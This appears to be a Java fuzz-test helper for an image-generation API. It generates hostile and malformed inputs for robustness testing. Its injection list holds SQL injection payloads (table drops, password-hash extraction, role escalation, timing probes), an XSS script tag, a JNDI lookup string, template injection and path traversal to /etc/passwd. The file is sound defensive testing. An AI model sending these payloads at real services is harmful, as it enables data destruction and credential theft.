package dev.imagegen.api.fuzz;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/** Generators of hostile input: strings, JSON values, numbers and identifiers no client should send. */
final class Nasty {

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE tasks;--",
            "' OR '1'='1",
            "\" OR 1=1 --",
            "1; DELETE FROM users WHERE 1=1",
            "') UNION SELECT hashed_password FROM users--",
            "$$; TRUNCATE subtasks; $$",
            "%' AND pg_sleep(5) IS NULL AND '%'='",
            "\\'; SELECT set_config('role', 'admin', false);--",
            "%",
            "_",
            "\\",
            "<% word",
            "%%%%____\\\\\\",
            "<script>alert(1)</script>",
            "${jndi:ldap://x/a}",
            "{{7*7}}",
            "../../../../etc/passwd",
            "..%2F..%2Fsecret");

    static final List<String> UNICODE = List.of(
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\uDC00x",
            "x\uDBFF",
            "\uFEFF",
            "\u202Eevil\u202C",
            "مرحبا بالعالم",
            "🦊🐢🏯👩‍👩‍👧‍👦",
            "\uD83E\uDD8A",
            "夜の街 城市的夜晚",
            "\u0007\u001B[31m",
            "\r\n\t",
            "\uFFFF\uFFFE",
            "e\u0301\u0301\u0301",
            " ",
            "");

    static final List<String> BAD_NUMBERS = List.of(
            "-1",
            "0",
            "-0",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999999999999",
            "1e309",
            "-1e309",
            "1.5",
            "NaN",
            "Infinity",
            "0x10",
            "1_000",
            " 5",
            "5 ",
            "+7",
            "1e3");

    private Nasty() {}

    /** A string a client should never send: injection, odd unicode, numbers as text, noise, long text. */
    static Arbitrary<String> string() {
        return Arbitraries.frequencyOf(
                weighted(30, Arbitraries.of(INJECTIONS)),
                weighted(30, Arbitraries.of(UNICODE)),
                weighted(10, Arbitraries.of(BAD_NUMBERS)),
                weighted(20, Arbitraries.strings().all().ofMaxLength(40)),
                weighted(
                        5,
                        Arbitraries.strings()
                                .withCharRange('a', 'z')
                                .ofMinLength(201)
                                .ofMaxLength(5000)));
    }

    /** About one megabyte of text. */
    static Arbitrary<String> huge() {
        return Arbitraries.of("x", "夜", "🦊", "'; DROP TABLE tasks;--")
                .map(unit -> unit.repeat(1_000_000 / unit.length()));
    }

    /** A string escaped for a JSON text, lone surrogates and NUL included as escapes. */
    static String quote(String value) {
        StringBuilder out = new StringBuilder(value.length() + 2).append('"');
        for (int i = 0; i < value.length(); i++) {
            char c = value.charAt(i);
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c) || c >= 0xFFFE) {
                        out.append("\\u%04x".formatted((int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** A JSON number text that no field accepts or that is out of every range. */
    static Arbitrary<String> number() {
        return Arbitraries.oneOf(
                Arbitraries.of(
                        "-1",
                        "0",
                        "-0",
                        "2147483648",
                        "-2147483649",
                        "9223372036854775808",
                        "1" + "0".repeat(400),
                        "1e309",
                        "-1e-400",
                        "0.000000000000000000000001",
                        "1.0",
                        "3.99"),
                Arbitraries.longs().map(String::valueOf),
                Arbitraries.doubles().map(String::valueOf).filter(text -> !text.contains("N") && !text.contains("I")));
    }

    /** Any JSON value, nested a few levels, with keys drawn from {@code fields} and from nonsense. */
    static Arbitrary<String> json(List<String> fields) {
        Arbitrary<String> keys = Arbitraries.frequencyOf(
                weighted(6, Arbitraries.of(fields.isEmpty() ? List.of("x") : fields)),
                weighted(1, string().filter(key -> key.length() < 1000)),
                weighted(1, Arbitraries.of("v0", "v5", "v6", "value", "values", "is_variable", "variable_id", "type")));
        Arbitrary<String> leaf = Arbitraries.frequencyOf(
                weighted(4, string().map(Nasty::quote)),
                weighted(3, number()),
                weighted(2, Arbitraries.of("null", "true", "false")),
                weighted(1, Arbitraries.of("[]", "{}", "\"\"")));
        return Arbitraries.recursive(
                () -> leaf,
                inner -> Arbitraries.oneOf(
                        inner.list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]"),
                        Combinators.combine(keys, inner)
                                .as((key, value) -> quote(key) + ":" + value)
                                .list()
                                .ofMaxSize(4)
                                .map(members -> "{" + String.join(",", members) + "}")),
                0,
                4);
    }

    /** A path or query value meant to be a UUID, an integer or free text, but broken. */
    static Arbitrary<String> identifier() {
        return Arbitraries.frequencyOf(
                weighted(
                        4,
                        Arbitraries.of(
                                "not-a-uuid",
                                "00000000-0000-0000-0000-00000000000g",
                                "00000000-0000-0000-0000-000000000000",
                                "ffffffff-ffff-ffff-ffff-ffffffffffff",
                                "0-0-0-0-0",
                                "{00000000-0000-0000-0000-000000000000}",
                                "00000000000000000000000000000000",
                                "null",
                                "undefined",
                                "true",
                                "[]",
                                "..",
                                ".",
                                "%",
                                "a/b",
                                "a;b",
                                "a\\b")),
                weighted(2, Arbitraries.create(() -> java.util.UUID.randomUUID() + "x")),
                weighted(3, Arbitraries.of(BAD_NUMBERS)),
                weighted(4, string()));
    }

    static <T> net.jqwik.api.Tuple.Tuple2<Integer, Arbitrary<? extends T>> weighted(
            int weight, Arbitrary<? extends T> arbitrary) {
        return net.jqwik.api.Tuple.of(weight, arbitrary);
    }
}
